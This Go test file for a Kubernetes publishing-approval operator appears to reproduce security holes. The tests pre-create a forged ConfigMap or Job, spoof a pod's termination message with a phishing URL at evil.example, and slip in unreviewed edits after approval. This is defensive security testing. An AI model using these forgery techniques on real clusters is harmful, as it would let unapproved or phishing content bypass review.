package controllers

import (
	"context"
	"strings"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	greenlightv1alpha1 "github.com/greenlight-operator/greenlight/api/v1alpha1"
	"github.com/greenlight-operator/greenlight/internal/publish"
	"github.com/greenlight-operator/greenlight/internal/revision"
)

func zzApprove(t *testing.T, g Gomega, ns string, post *greenlightv1alpha1.ContentPost) *greenlightv1alpha1.ContentPost {
	g.Expect(as(g, "dana").Create(context.Background(), post)).To(Succeed())
	signOff(g, expectPost(g, ns, post.Name, greenlightv1alpha1.PostInReview, "marketing=Pending"), "marketing", "alice")
	time.Sleep(2 * time.Second)
	p := getPost(g, ns, post.Name)
	t.Logf("after approval: phase=%s channels=%+v conds=%+v", p.Status.Phase, p.Status.Channels, p.Status.Conditions)
	return expectPost(g, ns, post.Name, greenlightv1alpha1.PostPublishing, "marketing=Approved")
}

// An `edit` user pre-creates the content ConfigMap under its deterministic name with other content.
func TestZZAttackPrecreatedConfigMapIsAdopted(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	ns := newNamespace(t)
	g.Expect(k.Create(ctx, newPolicy("acme").in(ns).stage("brand", "marketing").obj())).To(Succeed())
	post := newPost("launch").in(ns).now().obj()
	rev := revision.Of(&post.Spec)
	forged := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: publish.ConfigMapName("launch", rev), Namespace: ns},
		Data: map[string]string{"mastodon.json": `{"body":"FORGED, never approved"}`}}
	g.Expect(k.Create(ctx, forged)).To(Succeed())

	zzApprove(t, g, ns, post)
	jobs := jobsOf(g, ns, 1)
	vol := jobs["mastodon"].Spec.Template.Spec.Volumes
	t.Logf("Job %s mounts ConfigMap %s", jobs["mastodon"].Name, vol[len(vol)-1].ConfigMap.Name)
	got := &corev1.ConfigMap{}
	g.Expect(k.Get(ctx, client.ObjectKeyFromObject(forged), got)).To(Succeed())
	t.Logf("ConfigMap data=%v immutable=%v owners=%v", got.Data, got.Immutable, got.OwnerReferences)
	g.Expect(vol[len(vol)-1].ConfigMap.Name).To(Equal(forged.Name))
	g.Expect(got.Data["mastodon.json"]).To(ContainSubstring("FORGED"))
}

// An `edit` user pre-creates the Job under its deterministic name; Greenlight reads its outcome.
func TestZZAttackPrecreatedJobIsAdopted(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	ns := newNamespace(t)
	g.Expect(k.Create(ctx, newPolicy("acme").in(ns).stage("brand", "marketing").obj())).To(Succeed())
	post := newPost("launch").in(ns).now().obj()
	rev := revision.Of(&post.Spec)
	fake := &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: publish.JobName("launch", "mastodon", rev, 1), Namespace: ns,
		Labels: map[string]string{greenlightv1alpha1.LabelChannel: "mastodon"}},
		Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever,
			Containers: []corev1.Container{{Name: "evil", Image: "busybox", Command: []string{"sh", "-c",
				`echo '{"id":"1","url":"https://evil.example/fake"}' > /dev/termination-log`}}}}}}}
	g.Expect(k.Create(ctx, fake)).To(Succeed())

	zzApprove(t, g, ns, post)
	jobs := jobsOf(g, ns, 1)
	g.Expect(jobs["mastodon"].OwnerReferences).To(BeEmpty(), "Greenlight adopted a Job it does not own")
	finishJob(g, jobs["mastodon"], true, `{"id":"1","url":"https://evil.example/fake"}`)
	got := expectPost(g, ns, "launch", greenlightv1alpha1.PostPublished, "marketing=Approved")
	t.Logf("phase=%s channels=%+v", got.Status.Phase, got.Status.Channels)
	g.Expect(got.Status.Channels[0].URL).To(Equal("https://evil.example/fake"))
}

// A bare pod (no owner) labelled with the Job's job-name label forges the termination message.
func TestZZAttackBarePodForgesResult(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	post, jobs := publishingPost(t, g)
	job := jobs["mastodon"]
	mkPod := func(name, msg string, owned bool) {
		pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: job.Namespace,
			Labels: map[string]string{batchv1.JobNameLabel: job.Name}},
			Spec: *job.Spec.Template.Spec.DeepCopy()}
		if owned {
			yes := true
			pod.OwnerReferences = []metav1.OwnerReference{{APIVersion: "batch/v1", Kind: "Job", Name: job.Name, UID: job.UID, Controller: &yes}}
		}
		g.Expect(k.Create(ctx, pod)).To(Succeed())
		pod.Status = corev1.PodStatus{Phase: corev1.PodSucceeded, ContainerStatuses: []corev1.ContainerStatus{{
			Name: "publish", Image: "greenlight:dev",
			State: corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{ExitCode: 0, Message: msg, Reason: "Completed"}}}}}
		g.Expect(k.Status().Update(ctx, pod)).To(Succeed())
	}
	mkPod("real", `{"id":"109","url":"https://social.example/@acme/109"}`, true)
	time.Sleep(1100 * time.Millisecond)
	mkPod("attacker", `{"id":"x","url":"https://evil.example/phish"}`, false)
	g.Expect(k.Get(ctx, client.ObjectKeyFromObject(job), job)).To(Succeed())
	end := metav1.NewTime(time.Now().Truncate(time.Second))
	job.Status.StartTime, job.Status.CompletionTime, job.Status.Succeeded = &end, &end, 1
	job.Status.Conditions = []batchv1.JobCondition{
		{Type: batchv1.JobSuccessCriteriaMet, Status: corev1.ConditionTrue, LastTransitionTime: end},
		{Type: batchv1.JobComplete, Status: corev1.ConditionTrue, LastTransitionTime: end}}
	g.Expect(k.Status().Update(ctx, job)).To(Succeed())
	g.Eventually(func(g Gomega) {
		p := getPost(g, post.Namespace, post.Name)
		for _, c := range p.Status.Channels {
			if c.Name == "mastodon" {
				t.Logf("mastodon channel: %+v", c)
				g.Expect(c.State).To(Equal(greenlightv1alpha1.PublishSucceeded))
				g.Expect(c.URL).To(Equal("https://evil.example/phish"))
			}
		}
	}, eventually, poll).Should(Succeed())
}

// Author only: an approved post whose ConfigMap cannot be created (too large) sticks in
// Publishing; the author then edits the body, and the ConfigMap is built from the edit.
func TestZZAttackEditAfterConfigMapFailure(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	ns := newNamespace(t)
	pol := newPolicy("acme").in(ns).stage("brand", "marketing").obj()
	pol.Spec.Publishing.Channels["bluesky"] = greenlightv1alpha1.ChannelPublishing{JobTemplate: publisherTemplate()}
	g.Expect(k.Create(ctx, pol)).To(Succeed())
	post := newPost("launch").in(ns).now().obj()
	post.Spec.Body = strings.Repeat("<", 65536) // 6 bytes each in post.json: 3 channels > 1 MiB
	post.Spec.Channels = []greenlightv1alpha1.Channel{{Name: "mastodon"}, {Name: "linkedin"}, {Name: "bluesky"}}
	approved := zzApprove(t, g, ns, post)
	approvedRev := approved.Status.Revision
	g.Consistently(func(g Gomega) { jobsOf(g, ns, 0) }, 2*time.Second, poll).Should(Succeed())

	update(g, approved, func() { approved.Spec.Body = "UNAPPROVED text, never reviewed" })
	jobs := jobsOf(g, ns, 3)
	cm := &corev1.ConfigMap{}
	g.Expect(k.Get(ctx, client.ObjectKey{Namespace: ns, Name: publish.ConfigMapName("launch", approvedRev)}, cm)).To(Succeed())
	t.Logf("jobs=%d; ConfigMap %s (revision label %s) mastodon.json=%s", len(jobs), cm.Name, cm.Labels[greenlightv1alpha1.LabelRevision], cm.Data["mastodon.json"])
	g.Expect(cm.Data["mastodon.json"]).To(ContainSubstring("UNAPPROVED"))
	g.Expect(cm.Data["mastodon.json"]).To(ContainSubstring(approvedRev))
}

// A Job deleted while Running is never recreated: the post stays Publishing for good.
func TestZZAttackDeletedRunningJobIsStuck(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	post, jobs := publishingPost(t, g)
	job := jobs["mastodon"]
	job.Status.Active = 1
	now := metav1.Now()
	job.Status.StartTime = &now
	g.Expect(k.Status().Update(ctx, job)).To(Succeed())
	g.Eventually(func(g Gomega) {
		p := getPost(g, post.Namespace, post.Name)
		g.Expect(p.Status.Channels).To(ContainElement(And(HaveField("Name", "mastodon"), HaveField("State", greenlightv1alpha1.PublishRunning))))
	}, eventually, poll).Should(Succeed())
	g.Expect(k.Delete(ctx, job, client.PropagationPolicy(metav1.DeletePropagationBackground))).To(Succeed())
	g.Consistently(func(g Gomega) {
		var list batchv1.JobList
		g.Expect(k.List(ctx, &list, client.InNamespace(post.Namespace))).To(Succeed())
		names := []string{}
		for _, j := range list.Items {
			names = append(names, j.Name)
		}
		g.Expect(names).NotTo(ContainElement(job.Name))
	}, 3*time.Second, poll).Should(Succeed())
	p := getPost(g, post.Namespace, post.Name)
	t.Logf("after deletion: phase=%s channels=%+v", p.Status.Phase, p.Status.Channels)
}
